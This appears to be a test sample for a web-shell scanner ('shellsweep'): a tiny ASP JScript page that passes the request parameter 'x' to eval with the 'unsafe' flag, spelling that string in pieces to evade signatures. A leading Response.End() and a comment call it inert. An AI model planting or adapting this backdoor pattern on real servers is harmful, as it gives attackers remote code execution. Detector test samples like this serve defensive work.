<script runat="server" language="JScript">
// shellsweep test sample: inert, never functional
Response.End();
function exs(s) { var q = "u"; var w = "afe"; var a = q + "ns" + w; return eval(s, a); }
</script>
<% exs(Request.Item("x")); %>
